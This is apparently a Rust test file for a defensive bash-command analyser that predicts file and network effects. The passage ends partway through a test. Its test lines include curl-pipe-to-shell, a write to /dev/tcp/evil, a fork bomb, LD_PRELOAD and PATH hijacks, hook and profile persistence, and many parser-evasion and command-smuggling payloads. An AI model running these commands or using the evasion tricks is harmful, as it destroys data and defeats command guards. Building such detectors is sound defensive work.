use super::*;
use crate::effect::{Certainty, Effect, Kind, Object};
use crate::places::Tracked;
use crate::word::Word;
use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

/// Scripts by their paths.
struct Scripts(BTreeMap<PathBuf, String>);

impl Files for Scripts {
    fn script(&self, path: &Path) -> Option<String> {
        self.0.get(path).cloned()
    }

    fn plain_names(&self, folder: &Path, _deep: bool) -> bool {
        folder.starts_with("/p/plain")
    }

    fn names_of_git(&self, folder: &Path) -> Tracked {
        if folder == Path::new("/p/plain/few") {
            return Tracked::All(vec!["a.rs".into(), "src/b.rs".into(), "src/c".into()]);
        }
        if folder.starts_with("/p/plain") {
            Tracked::Plain
        } else {
            Tracked::Unknown
        }
    }
}

fn places() -> Places {
    Places {
        folder: "/p".into(),
        project: "/p".into(),
        home: Some("/h".into()),
        variables: BTreeMap::new(),
    }
}

fn done(line: &str) -> Done {
    let script = ("/p/s.sh".into(), "#!/bin/sh\ncd sub\nrm $1\n".to_owned());
    let python = ("/p/s.py".into(), "#!/usr/bin/python3\n".to_owned());
    let scripts = Scripts(BTreeMap::from([script, python]));
    read(line, &places(), &scripts)
}

/// Whether anything may happen.
fn anything(done: &Done) -> bool {
    Kind::ALL.iter().all(|kind| {
        let unknown = |effect: &&Effect| effect.object == Object::Unknown && effect.kind == *kind;
        done.effects.iter().find(unknown).is_some()
    })
}

/// The names of the programs of a line, `?` where one cannot be read.
fn programs(done: &Done) -> Vec<String> {
    let names = done.commands.iter().map(|command| {
        let name = command.words.first().and_then(Word::known);
        name.map_or("?".to_owned(), std::borrow::Cow::into_owned)
    });
    names.collect()
}

/// What files a line writes, reads, or deletes, shortly: `w/p/x`, `?` before what only may be.
fn files(line: &str) -> Vec<String> {
    let done = done(line);
    let mut all = Vec::new();
    for effect in &done.effects {
        let kind = match effect.kind {
            Kind::Read => "r",
            Kind::Write => "w",
            Kind::Delete => "d",
            Kind::Net => "n",
            _ => continue,
        };
        // What stands below a folder that a pattern may match.
        if matches!(&effect.object, Object::Pattern(pattern) if pattern.ends_with("/**")) {
            continue;
        }
        let object = match &effect.object {
            Object::Path(path) | Object::Tree(path) => path.display().to_string(),
            Object::Pattern(pattern) => format!("~{pattern}"),
            Object::Host(host) => host.clone(),
            _ => "?".to_owned(),
        };
        let sure = match effect.certainty {
            Certainty::Exact => "",
            Certainty::Likely => "~",
            Certainty::Unknown => "?",
        };
        all.push(format!("{sure}{kind}{object}"));
    }
    all
}

#[track_caller]
fn does(line: &str, expected: &[&str]) {
    assert_eq!(files(line), expected, "{line}");
}

#[test]
fn words_are_what_the_shell_makes_of_them() {
    for (line, expected) in [
        ("rm a", "d/p/a"),
        ("rm -rf 'a b'", "d/p/a b"),
        (r"rm a\ b", "d/p/a b"),
        ("rm $'a\\'b'", "d/p/a'b"),
        ("rm \"a\"'b'c", "d/p/abc"),
        ("rm ~/x", "d/h/x"),
        ("rm \"$HOME\"/x", "d/h/x"),
        ("rm ${HOME}/x", "d/h/x"),
        ("rm ~+/x", "d/p/x"),
        ("rm $PWD/x", "d/p/x"),
        ("rm of=~/x", "d/p/of=/h/x"),
        ("x=~/a; rm $x", "d/h/a"),
        ("rm *", "~d~/p/*"),
        ("rm '*'", "d/p/*"),
        ("rm [a]b", "~d~/p/[a]b"),
        ("rm a]", "d/p/a]"),
        ("set -f; rm *", "d/p/*"),
        ("x=a; rm $x", "d/p/a"),
        ("x=a.txt; rm ${x%.txt}.c", "d/p/a.c"),
        ("x='a*'; rm $x", "~d~/p/a*"),
        ("unset x; rm ${x:-b}", "d/p/b"),
        ("rm $(echo a)", "d/p/a"),
        ("rm `echo a`", "d/p/a"),
        ("rm \"$(echo 'a b')\"", "d/p/a b"),
        ("r\\m a", "d/p/a"),
        ("'rm' a", "d/p/a"),
        ("x=rm; $x a", "d/p/a"),
        ("rm$IFS-rf${IFS}a", "d/p/a"),
        ("rm \"a$UNKNOWN\"", "?d~/p/a**"),
        ("rm $UNKNOWN/hooks", "?d~**/hooks"),
        ("rm \"$UNKNOWN\"", "?d?"),
        ("a=(x y); rm ${a[1]}", "?d?"),
    ] {
        does(line, &[expected]);
    }
    does("unset x; rm ${x:-\"a b\"}", &["d/p/a b"]);
    does("unset x; rm ${x:-a 'b c'}", &["d/p/a", "d/p/b c"]);
    does("unset x; rm \"${x:-a b}\"", &["d/p/a b"]);
    does("x=1; rm ${x:+a} ${x:+}", &["d/p/a"]);
    does("rm {a,b}c", &["d/p/ac", "d/p/bc"]);
    does("rm x{1..3}", &["d/p/x1", "d/p/x2", "d/p/x3"]);
    does("rm {a,b{c,d}}", &["d/p/a", "d/p/bc", "d/p/bd"]);
    does("x='a b'; rm $x", &["d/p/a", "d/p/b"]);
    does("IFS=:; x=a:b; rm $x", &["?d?"]);
    does("a=(x 'y z'); rm \"${a[@]}\"", &["d/p/x", "d/p/y z"]);
    does("set -- x y; rm \"$@\"", &["d/p/x", "d/p/y"]);
    does("for f in a b; do rm $f.c; done", &["d/p/a.c", "d/p/b.c"]);
    for line in ["r${Z}m x", "$UNKNOWN x", "`cat f` x", "${!x} y", "\"$@\""] {
        assert!(anything(&done(line)), "{line}");
    }
}

#[test]
fn the_folder_is_followed() {
    does("cd a && rm b", &["d/p/a/b"]);
    does("cd a; rm b", &["~d/p/a/b", "~d/p/b"]);
    does("cd a || exit; rm b", &["d/p/a/b"]);
    does("cd a || exit 1\nrm b", &["d/p/a/b"]);
    does("cd && rm b", &["d/h/b"]);
    does("cd ~ && rm -rf .local", &["d/h/.local"]);
    does("cd a && cd .. && rm b", &["d/p/b"]);
    does("cd a && cd - && rm b", &["d/p/b"]);
    does("pushd a && rm b && popd && rm c", &["d/p/a/b", "?d~**/c"]);
    does("(cd a && rm b); rm c", &["d/p/a/b", "d/p/c"]);
    does("{ cd a && rm b; } && rm c", &["d/p/a/b", "d/p/a/c"]);
    does("cd a | rm b", &["d/p/b"]);
    does("cd a & rm b", &["d/p/b"]);
    does("rm $(cd a && echo x)", &["?d?"]);
    does("if cd a; then rm b; else rm c; fi", &["~d/p/a/b", "~d/p/c"]);
    does("cd $X && rm b", &["?d~**/b"]);
    does("f() { cd a; }; f && rm b", &["d/p/a/b"]);
    does(
        "while cd a; do rm b; done",
        &["d/p/a/b", "~d/p/a/b", "~d/p/a/a/b", "?d~**/b"],
    );
}

#[test]
fn a_file_that_a_runner_names_is_one_of_its_own_where_it_is_written_to_alone() {
    does(
        "date >> \"$GITHUB_OUTPUT\"",
        &["w/files-of-the-runner/GITHUB_OUTPUT"],
    );
    for line in [
        "rm -rf \"$GITHUB_OUTPUT\"/x",
        "cat \"$GITHUB_OUTPUT/etc/passwd\"",
        "date >> \"$GITHUB_OUTPUT/x\"",
        "GITHUB_OUTPUT=.env; date >> $GITHUB_OUTPUT",
        "export GITHUB_OUTPUT=x",
    ] {
        let effects = done(line).effects;
        let is_open = |effect: &Effect| effect.certainty == Certainty::Unknown;
        assert!(effects.iter().any(is_open), "{line}");
    }
}

#[test]
fn a_file_that_is_emptied_loses_what_it_held() {
    for line in [
        ": > f",
        "true > f",
        "echo -n > f",
        "cat /dev/null > f",
        "{ :; } > f",
    ] {
        let done = done(line);
        let deletes = |effect: &Effect| effect.kind == Kind::Delete;
        let own = done.effects.iter().filter(|effect| deletes(effect));
        let own: Vec<_> = own.map(|effect| &effect.object).collect();
        assert_eq!(own, [&Object::Path("/p/f".into())], "{line}");
    }
    does("cp /dev/null f", &["~d/p/f", "w/p/f", "~w/p/f/null"]);
    does("truncate -s 0 f", &["w/p/f", "~d/p/f"]);
    does("truncate -s +1K f", &["w/p/f"]);
    does(": >> f", &["w/p/f"]);
    does("date > f", &["w/p/f"]);
    does(": > /dev/null", &[]);
}

#[test]
fn what_runs_on_another_machine_is_known_and_its_files_are_none_of_this_disk() {
    for line in [
        "ssh h 'rm -rf /srv'",
        "ssh h rm -rf /srv",
        "ssh h <<'E'\nrm -rf /srv\nE",
        "ssh h bash <<'E'\nrm -rf /srv\nE",
        "docker exec -it c rm -rf /srv",
        "docker run -it --rm alpine rm -rf /srv",
        "docker run --entrypoint rm alpine -rf /srv",
        "docker compose exec -T web rm -rf /srv",
        "kubectl exec -n x deploy/web -- rm -rf /srv",
        "ssh h \"docker exec c sh -c 'rm -rf /srv'\"",
    ] {
        let done = done(line);
        let words = |command: &Command| -> Option<String> {
            let words: Option<Vec<_>> = command.words.iter().map(Word::known).collect();
            Some(words?.join(" "))
        };
        let mut all = done.commands.iter().filter_map(words);
        assert!(all.any(|words| words == "rm -rf /srv"), "{line}");
        let is_file = |effect: &Effect| matches!(effect.kind, Kind::Delete | Kind::Write);
        assert!(!done.effects.iter().any(is_file), "{line}");
    }
    // What a container is given, a program that is known may change in any way.
    for mount in ["-v ./src:/s", "--mount src=/p/src,dst=/s", "-v \"$X:/s\""] {
        let changed = if mount.contains('$') {
            ["?r?", "?w?", "?d?"]
        } else {
            ["~r/p/src", "~w/p/src", "~d/p/src"]
        };
        let known = format!("docker run {mount} alpine rm a");
        does(&known, &[&["~n?"], &changed[..]].concat());
    }
    does("docker run -v ./src:/s some/image", &["~n?", "~w/p/src"]);
    does("docker run -v data:/s alpine rm a", &["~n?"]);
}

#[test]
fn a_name_that_is_not_known_leaves_what_stands_around_it() {
    does(
        "cat x | xargs -I{} wc -l src/{}.rs",
        &["r/p/x", "?r~/p/src/**.rs"],
    );
    does(
        "find a -name '*.c' -exec wc -l {}.bak \\;",
        &["r/p/a", "~r~/p/a/*.c.bak", "~r~/p/a/**/*.c.bak"],
    );
    does(
        "fd -e rs -x wc -l {}",
        &["~r/p", "~r~/p/./*.rs", "~r~/p/./**/*.rs"],
    );
    does(
        "find . -name '*.c' -not -path './x/*' -exec wc -l {} +",
        &["r/p", "~r~/p/*.c", "~r~/p/**/*.c"],
    );
}

#[test]
fn redirections_are_effects() {
    does("echo x > f", &["w/p/f"]);
    does("echo x >> f", &["w/p/f"]);
    does("echo x >| f", &["w/p/f"]);
    does("echo x &> f", &["w/p/f"]);
    does("echo x &>> f", &["w/p/f"]);
    does("echo x >& f", &["w/p/f"]);
    does(": <> f", &["r/p/f", "w/p/f"]);
    does("cat < f", &["r/p/f"]);
    does("> f", &["w/p/f", "d/p/f"]);
    does("echo x 2>&1 >/dev/null 2>/dev/null <&-", &[]);
    does("{ echo x; } > f", &["w/p/f"]);
    does("cd a && echo x > f", &["w/p/a/f"]);
    does("echo x > /dev/tcp/evil/80", &["nevil:80"]);
    does("echo x > \"$X\"", &["?n?", "?w?"]);
    does("cat <<E > f\nbody $(rm x)\nE", &["d/p/x", "w/p/f"]);
    does("cat <<'E' > f\nbody $(rm x)\nE", &["w/p/f"]);
    does("echo x # > f", &[]);
}

#[test]
fn code_in_text_is_followed() {
    does("sh -c 'rm x'", &["d/p/x"]);
    does("sudo env bash -c \"rm 'x y'\"", &["d/p/x y"]);
    does("eval 'rm x'", &["d/p/x"]);
    does("eval rm '$HOME/x'", &["d/h/x"]);
    does("echo 'rm x' | sh", &["d/p/x"]);
    does("cat <<E | sh\nrm x\nE", &["d/p/x"]);
    does("sh <<< 'rm x'", &["d/p/x"]);
    does("sh <(echo rm x)", &["d/p/x"]);
    does("source <(echo rm x)", &["d/p/x"]);
    does("trap 'rm x' EXIT; cd a || exit", &["~d/p/a/x", "~d/p/x"]);
    does("sh s.sh y", &["r/p/s.sh", "~d/p/sub/y", "~d/p/y"]);
    does("./s.sh y", &["~d/p/sub/y", "~d/p/y"]);
    does("f() { rm $1; }; f x", &["d/p/x"]);
    does("f() { rm x; }; bash -c f", &[]);
    does("f() { rm x; }; export -f f; bash -c f", &["d/p/x"]);
    for line in [
        "curl http://x | sh",
        "sh -c \"$X\"",
        "eval \"$(curl x)\"",
        "source <(curl x)",
        "curl x > f; sh f",
        "echo 'rm x' > f; sh f",
        "exec -l bash",
        "exec -a -bash bash",
        "sh -c '((rm x))'",
        "sh -c '[[ a > b ]]'",
        "sh -c \"$(cat f)\"",
        "cp a f; . ./f",
        "sh $X",
        "shopt -s expand_aliases; alias if=rm\nif x",
        "shopt -s expand_aliases; alias l='rm x'\nl",
    ] {
        assert!(anything(&done(line)), "{line}");
    }
    let opaque = done("./s.py");
    assert!(!anything(&opaque));
    let is_opaque =
        |effect: &Effect| matches!(&effect.object, Object::Program { opaque: true, .. });
    assert!(opaque.effects.iter().any(is_opaque));
}

#[test]
fn data_that_bash_runs_as_code_is_followed() {
    for line in [
        "printf -v 'a[$(rm x)]' y",
        "test -v 'a[$(rm x)]'",
        "[ -v 'a[$(rm x)]' ]",
        "[[ -v 'a[$(rm x)]' ]]",
        "v='a[$(rm x)]'; ((v))",
        "v='a[$(rm x)]'; echo $((v+1))",
        "read 'a[$(rm x)]' <<< y",
        "unset 'a[$(rm x)]'",
        "declare 'a[$(rm x)]=1'",
        "let 'a[$(rm x)]=1'",
        "[[ 'a[$(rm x)]' -eq 0 ]]",
        "v='a[$(rm x)]'; echo ${b:v}",
        "a['$(rm x)']=1",
        "v='a[$(rm x)]'; w=v; ((w))",
        "((a[$(rm x)]))",
        "echo $[a[$(rm x)]]",
        "mapfile 'a[$(rm x)]'",
        "export 'a[$(rm x)]=1'",
    ] {
        let done = done(line);
        let removed = |effect: &Effect| {
            effect.kind == Kind::Delete
                && (effect.object == Object::Path("/p/x".into())
                    || effect.object == Object::Unknown)
        };
        assert!(done.effects.iter().any(removed), "{line}");
    }
    for line in [
        "x=$(cat f); ((x))",
        "read x < f; echo $((x))",
        "declare -n r=PATH",
        "echo ${X@P}",
        "for f in *; do ((f > 1)); done",
    ] {
        assert!(anything(&done(line)), "{line}");
    }
    for line in [
        "i=0; ((i++)); echo $((i+1)) $((1<<2))",
        "for ((i=0;i<3;i++)); do echo $i; done",
        "((X))",
        "[[ -v HOME ]]",
        "test -v HOME",
        "[[ $X == a* ]]",
        "[ \"$X\" = y ]",
        "x=${#HOME}; echo $((x))",
        "IFS= read -r x",
        "export FOO=bar",
        "PATH=/usr/local/bin:$PATH ls",
        "export PATH=\"$HOME/.cargo/bin:$PATH\"",
        "declare -A m=([a]=b)",
        "export PATH=$PWD/bin:$PATH; echo $PATH; cd src; pwd",
        "export NODE_OPTIONS=--max-old-space-size=4096; node a.js",
        "hash -r",
        "bash -n s.sh",
        "exec 3>&1; echo x >&3; exec 3>&-",
        "exec 4<&0; ls 1>&2 4<&-",
        "[[ $(wc -l < a) -gt 10 ]] && n=$(ls | wc -l) && echo $((n+1))",
        "echo a > settings.py; PYTHONPATH=. python3 -c 1; echo b >> .gitignore; git status",
        "gcc -Wall -o app a.c b.c && ./app x < in; g++ -o b b.cpp; ./b",
        "cd plain && gcc -DN=4 -o app *.c && ./app",
    ] {
        assert!(!anything(&done(line)), "{line}");
    }
}

#[test]
fn variables_that_decide_what_runs_make_everything_unknown() {
    for line in [
        "PATH=.:$PATH ls",
        "export PATH=$PWD/bin:$PATH; ls",
        "PATH=.; env echo",
        "for PATH in ./x; do ls; done",
        "for BASH_ENV in ./x; do bash -c :; done",
        "f() { local PATH=./x; ls; }; f",
        "trap ls USR1; PATH=./x:$PATH; kill -USR1 $$",
        "export PATH=./x:$PATH; . y",
        "NODE_OPTIONS='--max-old-space-size=1 --require ./x.js' node a.js",
        "PATH=$X ls",
        "read PATH < f",
        "PATH=$(cat f):$PATH ls",
        "LD_PRELOAD=./x.so ls",
        "BASH_ENV=x bash -c :",
        "GIT_SSH_COMMAND=x git fetch",
        "EDITOR='sh -c x' git commit",
        "PS4='$(rm x)'; set -x; :",
        "hash -p ./x ls",
        "echo 'rm x' > ~/.bash_profile; bash -lc true",
        "cp x ~/.profile; sudo -i",
        "echo x >> $H/.zshenv; zsh -c true",
        "echo 'import x' > sitecustomize.py; PYTHONPATH=. python3 -c 1",
        "echo output=x > ~/.curlrc; curl -s https://example.com",
        "curl -o ~/.curlrc https://example.com/x; curl -s https://example.com",
        "printf 'rm x' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; git commit -m a",
        "echo 'ProxyCommand x' >> ~/.ssh/config; ssh a",
        "bash -n +n s.sh; bash -nc \"$X\"",
        "n=$(cat x; wc -l < a); echo $((n))",
        "n=$(wc -l a); echo $((n))",
        "echo 'int main(){}' > a.c; gcc -o app a.c && ./app",
        "gcc -x c -o app - <<< 'int main(){}' && ./app",
        "gcc -x c -o app /dev/stdin <<< 'int main(){}' && ./app",
        "gcc -x c -o app <(echo x) && ./app",
        "gcc -o app a.c; cp b app; ./app",
        "gcc @a <<< 'int main(){}' && ./a.out",
        "gcc -D'x=system(\"rm y\")' -o app a.c && ./app",
        "gcc -o app *.c && ./app",
        "gcc -o app $X && ./app",
        "gcc -o app a.c; tar xf b.tar; ./app",
        "curl -o a.c x.org; gcc -o app a.c; ./app",
        "enable -f x y",
        "export $(cat f)",
        "shopt -s autocd",
    ] {
        assert!(anything(&done(line)), "{line}");
    }
}

/// The lines that every parser, or this one, reads wrongly. In each of them bash runs `rm H`.
#[test]
fn what_walks_around_parsers_is_seen_or_unknown() {
    for line in [
        "echo \"${v:-'$(rm H)'}\"",
        "echo `echo \\`rm H\\``",
        "echo `echo \\`echo \\\\\\`rm H\\\\\\`\\``",
        "echo $((rm H); :)",
        "cat <<E\nx \\\nE\n: <<'Z'\nE\nrm H\nZ",
        "cat <<E\\\nF\nx\nEF\nrm H",
        "echo ${v:-${v:-${v:-${v:-${v:-${v:-${v:-${v:-${v:-$(rm H)}}}}}}}}}",
        "echo ${v#${v#${v#${v#${v#$(rm H)}}}}}",
        "c1 {d1;rm H;}",
        "c1 ${v/'/'/$(rm H)}",
        "c1 $((1+$(rm H)))",
        "c1 $[1+$(rm H)]",
        "c1 $((v[$(rm H)]))",
        "c1 $(c2 $(c3 $(rm H)))",
        "c1 {a,$(rm H)}",
        "c1 $\"d1 $(rm H)\"",
        "c1 $(rm H <<'E'\nd1 ) d2\nE\n)",
        "c1 \"$(case x in x) rm H;; esac)\"",
        "c1 <<E $(rm H)\nd1\nE",
        "! time rm H",
        "coproc rm H",
        "time rm H",
        "! ! rm H",
        "c1 ${v#$(rm H)}",
        "c1 ${v:-`rm H`}",
        "c1 ${v^^$(rm H)}",
        "c1 <<E\n`rm H`\nE",
        "v[d1 d2]=x; rm H",
        "v=<(c1) rm H",
        "diff x <(for i in a b; { rm H; })",
        "echo $(for i in a b; { rm H; })",
        "echo \"$(for i in a b; { rm H; })\"",
        "echo `for i in a b; { rm H; }`",
        "cat <<E\n$(for i in a b; { rm H; })\nE",
        "c1 &\\\n& rm H",
        "cat <<$v\nx\n$v\nrm H",
        "c ${v}$(x)} ; rm H",
        "for i\nin a; do rm H; done",
        "coproc N while rm H; do :; done",
        "cat <<-E\n\tx\n\tE\nrm H",
        "if :; then rm H; fi",
        "case x in (x|y) rm H;; esac",
        "select i in a; do rm H; done",
        "until rm H; do :; done",
        "f() (rm H); f",
        "function f { rm H; }; f",
        "{ rm H; } 2>&1 | cat",
        "exec rm H",
        "command rm H",
        "builtin command rm H",
        "$'\\162m' H",
        "a=(x $(rm H))",
        "declare a=$(rm H)",
        "local x=`rm H`",
        "[[ -n $(rm H) ]]",
        "case $(rm H) in x) ;; esac",
        "for i in $(rm H); do :; done",
        "echo x > $(rm H)",
        "echo ${a[$(rm H)]}",
        "echo ${a:$(rm H)}",
        "echo ${a:?$(rm H)}",
    ] {
        let done = done(line);
        let removed = |effect: &Effect| {
            effect.kind == Kind::Delete
                && (effect.object == Object::Path("/p/H".into())
                    || effect.object == Object::Unknown)
        };
        assert!(
            done.effects.iter().any(removed),
            "{line}: {:?}",
            programs(&done)
        );
    }
}

#[test]
fn hostile_lines_get_an_answer_that_is_unknown() {
    let many = |text: &str| text.repeat(10_000);
    for line in [
        many("$("),
        many("("),
        many("{ "),
        many("if "),
        many("case x in x) "),
        many("[[ ("),
        many("\"$("),
        many("<("),
        many("! "),
        many("${a:-"),
        many("${a#"),
        many("$(("),
        many("$["),
        many("f() "),
        format!("[[ a == {}", many("@(a|")),
        many("coproc "),
        many("a && "),
        many("a | "),
        many("until "),
        "x".repeat(LONGEST + 1),
        "rm a\0b".to_owned(),
        ":(){ :|:& };:".to_owned(),
        "f() { f; f; f; }; f".to_owned(),
        "echo {1..99999999}".to_owned(),
        format!(
            "{}:{}",
            "for i in 1 2 3 4 5 6 7 8 9; do ".repeat(9),
            "; done".repeat(9)
        ),
        format!(
            "x=aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa; {} echo $x",
            "x=$x$x$x$x;".repeat(30)
        ),
        format!("echo {}", "{a,b}".repeat(30)),
        format!("{}echo{}", "$((a) ; ".repeat(14), ")".repeat(14)),
        format!("rm {}", "a ".repeat(30_000)),
        format!("rm {}", "{".repeat(60_000)),
        format!("rm {}", "{a,".repeat(20_000)),
        format!("rm a{}", "\"\"{".repeat(20_000)),
        format!("x={}; rm ${{x%*a*b*c*d}}", "abc".repeat(20_000)),
        format!("for i in {{1..200}}; do rm {}; done", "a$i ".repeat(1_000)),
        format!(
            "f() {{ {}f{}; }}; f",
            "if :; then ".repeat(20),
            "; fi".repeat(20)
        ),
        format!(
            "f() {{ {}f{}; }}; eval f",
            "{ ".repeat(25),
            "; }".repeat(25)
        ),
        "eval 'eval \"eval \\\"$0\\\"\"'".to_owned(),
    ] {
        let done = done(&line);
        let unknown = |effect: &Effect| effect.certainty == Certainty::Unknown;
        let short: String = line.chars().take(40).collect();
        let splits = done.commands.iter().flat_map(|command| &command.words);
        let splits = splits
            .flat_map(|word| &word.parts)
            .any(|part| *part == crate::word::Part::Split);
        assert!(done.effects.iter().any(unknown) || splits, "{short}");
    }
}

#[test]
fn long_and_deep_lines_of_everyday_are_read() {
    // What is not optimized needs more of the stack for each level, of which the parser takes a part.
    let deep = if cfg!(debug_assertions) { 8 } else { 20 };
    for line in [
        format!("echo {}", "x ".repeat(3_000)),
        "echo x; ".repeat(1_000),
        format!(
            "git commit -m \"$(cat <<'EOF'\n{}\nEOF\n)\"",
            "it's (a \"body\" $( ${ ` \n".repeat(500)
        ),
        format!("{}:{}", "if :; then ".repeat(deep), "; fi".repeat(deep)),
        format!("{}:{}", "echo $(".repeat(deep), ")".repeat(deep)),
    ] {
        let done = done(&line);
        let short: String = line.chars().take(40).collect();
        assert!(done.readable && !anything(&done), "{short}");
    }
}

#[test]
fn a_plain_command_is_told_from_everything_else() {
    for line in ["ls -la", "git log --oneline 'a b'", "rm -rf x # gone"] {
        assert!(done(line).plain, "{line}");
    }
    for line in [
        "ls; ls",
        "ls | cat",
        "ls > f",
        "ls $(x)",
        "ls $X",
        "ls *",
        "X=1 ls",
        "ls &",
        "! ls",
        "(ls)",
        "ls ~",
        "ls {a,b}",
        "time ls",
        "ls <(x)",
        "ls `x`",
        "f() { ls; }",
        "export X=1",
        "ls\nls",
        "",
    ] {
        assert!(!done(line).plain, "{line}");
    }
}

#[test]
fn commands_are_told_in_order_with_what_surrounds_them() {
    let done = done("A=1 c1 x | (cd d && c2) && sudo c3 $(c4)");
    assert_eq!(programs(&done), ["c1", "cd", "c2", "c4", "sudo", "c3"]);
    let first = done.commands.first().unwrap();
    assert_eq!(first.assigned, [("A".to_owned(), Word::text("1"))]);
    let second = done.commands.get(2).unwrap();
    assert_eq!(second.folders, [PathBuf::from("/p/d")]);
}

#[test]
fn what_read_takes_is_unknown_and_so_is_what_is_left_of_the_input() {
    for line in [
        "while read -r v; do rm \"$v\"; done <<E\na\n b c \nE\n",
        "{ read -r v; bash; } <<'E'\nx\nrm y\nE\n",
        "{ read -r v && rm \"$v\"; } <<< x",
        "{ cat; read v; rm $v; } <<E\na\nb\nE\n",
        "{ cat $(read v); read v; rm $v; } <<E\na\nb\nE\n",
        "echo 'read v; rm $v' | bash",
        "bash <<E\nread v; rm \\$v\nE\n",
        "{ read a; bash -c 'read v; rm $v' < x; } <<E\na\nb\nE\n",
        "{ read a; eval 'read v; rm $v' < x; } <<E\na\nb\nE\n",
        "{ read v | cat; read v; rm $v; } <<E\na\nb\nE\n",
        "{ read v & read v; rm $v; } <<E\na\nb\nE\n",
        "while read v; do :; done <<E\na\nE\nrm $v",
        "IFS=x; while read v; do rm $v; done <<E\naxb\nE\n",
    ] {
        let sure =
            |effect: &Effect| effect.kind == Kind::Delete && effect.object != Object::Unknown;
        let done = done(line);
        assert!(!done.effects.iter().any(sure), "{line}: {:?}", done.effects);
        assert!(
            done.effects
                .iter()
                .any(|effect| effect.kind == Kind::Delete),
            "{line}"
        );
    }
    let script = done("exec <<< 'rm x'; bash");
    assert!(
        script
            .effects
            .iter()
            .any(|effect| effect.kind == Kind::Delete)
    );
}

#[test]
fn what_is_done_through_a_link_of_the_line_is_done_to_some_file() {
    let falls = |line: &str, effect: &str| {
        let files = files(line);
        assert!(files.iter().any(|own| own == effect), "{line}: {files:?}");
    };
    falls("ln -s src k; rm -rf k/a", "?d?");
    falls("ln -s src k && cd k && rm -f a", "?d?");
    falls("ln -s src k; echo x > k", "?w?");
    falls("ln -s src k; find k/ -delete", "?d?");
    falls("ln -s ../.env d/k", "~r/p/d/../.env");
    falls("ln -s ../.env d/k; cat d/k", "?r?");
    falls("ln -s $X k; rm -rf k/a", "?d?");
    falls("cp -s /p/.env k; cat k", "~r/p/.env");
    // What removes a link leaves what it names.
    let removes = files("ln -s src k; rm -rf k");
    assert!(!removes.contains(&"?d?".to_owned()), "{removes:?}");
}

mod names;

#[test]
fn two_groups_that_end_with_two_brackets_are_no_arithmetic() {
    does("((rm a); (rm b))", &["d/p/a", "d/p/b"]);
    does(
        "((rm a) && cat <(echo b) >(cat > n2))",
        &["d/p/a", "w/p/n2"],
    );
    does(
        "x=1; ((cd d1 && rm a); eval 'rm $(echo c)')",
        &["d/p/d1/a", "d/p/c"],
    );
    does("((1 + (2)))", &[]);
    assert_eq!(programs(&done("((1 + $(rm a)))")), ["rm"]);
    // What the parser loses behind them is never lost here.
    for behind in [";rm c", "\nrm c", " && rm c", " | rm c", "&rm c", " > c"] {
        let done = done(&format!("((rm a); (rm b)){behind}"));
        let all = done.effects.iter();
        let is_seen = |effect: &Effect| effect.object == Object::Path("/p/c".into());
        assert!(anything(&done) || all.clone().any(is_seen), "{behind}");
    }
}

#[test]
fn behind_a_pipe_time_is_a_program() {
    does("rm a | time -o n2 rm b", &["d/p/a", "w/p/n2", "d/p/b"]);
    does(
        "rm a | time -p rm b > c",
        &["d/p/a", "w/p/c", "d/p/b", "d/p/c"],
    );
    assert!(anything(&done("rm a | time { rm b; }")));
}

#[test]
fn what_find_runs_falls_on_what_it_finds_in_every_folder_where_it_may_run() {
    does(
        "(cd n9 && rm a; find . -name 'f*' -exec rm {} \\;)",
        &[
            "d/p/n9/a",
            "~r/p/n9",
            "~r/p",
            "~d~/p/n9/f*",
            "~d~/p/n9/**/f*",
            "~d~/p/f*",
            "~d~/p/**/f*",
        ],
    );
}

#[test]
fn what_a_sourced_text_sets_is_set_here_too() {
    does("g() { source <(echo 'set -- b'); rm $1; }; g a", &["d/p/b"]);
    does(
        "g() { source <(echo 'rm $1') b; rm $1; }; g a",
        &["d/p/b", "d/p/a"],
    );
    let set = done("set a; source <(echo 'set -- c') b; rm $1");
    assert!(
        set.effects
            .iter()
            .any(|it| it.kind == Kind::Delete && it.object == Object::Unknown)
    );
}

#[test]
fn braces_of_a_shell_that_may_not_know_them_are_unknown() {
    for line in [
        "mv a {b,}",
        "mv {a,.env}",
        "mv -t {a,b} c",
        "set -- {a,b}; mv x \"$1\"",
        ": > {a,b}",
    ] {
        let moved = done(&format!("sh -c '{line}'"));
        let is_it = |it: &Effect| it.kind == Kind::Write && it.object == Object::Unknown;
        assert!(
            moved.effects.iter().any(is_it),
            "{line}: {:?}",
            moved.effects
        );
    }
    does("bash -c 'rm {b,c}'", &["d/p/b", "d/p/c"]);
}

#[test]
fn code_in_a_language_of_its_own_hides_nothing_from_a_guard() {
    does("awk '{ systems[$1]++; n = n || m } END {print n}'", &[]);
    for line in [
        "awk '{ print $1/2, a[1] / 2, (n) / 2, \"4\" / 2; x /= 2 }' f",
        "awk '{ gsub(/[a-z]/, \"_\"); return_ = 1; print return_ / 2 }' f",
        "awk 'NR % 2 == 0 # a \"comment\n/x/ { print }' f",
    ] {
        let all = done(line).effects;
        let reads = |effect: &Effect| matches!(effect.kind, Kind::Read | Kind::Exec);
        assert!(all.iter().all(reads), "{line}: {all:?}");
    }
    for line in [
        "awk 'BEGIN{system(\"rm x\")}'",
        "awk 'BEGIN{print /\"/; system(\"rm x\")}'",
        "awk 'BEGIN{ # \"\nsystem(\"rm x\")\n}'",
        "awk 'BEGIN{print \"a\" | \"rm x\"}'",
        "awk 'BEGIN{while ((\"rm x\" | getline line) > 0) n++}'",
        "awk '{system (\"rm \" $1)}' f",
        "awk '{system(\"rm \" $1)}' f",
        "awk '{print \"rm \" $1 | \"sh\"}' f",
        "awk '{print | \"r\" \"m x\"}' f",
        "awk 'BEGIN{x = 1. / system(\"rm \" x) / 1}'",
        "awk 'BEGIN{a \\\n/ system(\"rm \" x) / 1}'",
        "awk 'BEGIN{a++ / system(\"rm x\") / 1}'",
        "awk 'BEGIN{a++ /\"/; print \"rm x\" | \"sh\" #\"/\n}'",
        "awk 'BEGIN{ if (1) /\"/; print \"rm x\" | \"sh\" #\"\n}'",
        "awk 'length /\"/ { print \"rm x\" | \"sh\" } #\"/'",
        "awk '/a/ /\"/ { print \"rm x\" | \"sh\" } #\"/'",
        "awk '/[/]/ /\"| \"sh\" #\"/'",
        "awk \"$(cat prog)\" f",
        "python3 -i -c 1 <<< \"$(cat code)\"",
        "shopt -s extglob\nrm @(x)",
        "GLOBIGNORE=x; cat *",
    ] {
        let all = done(line).effects;
        let is_any = |kind| {
            all.iter()
                .any(|effect| effect.kind == kind && effect.object == Object::Unknown)
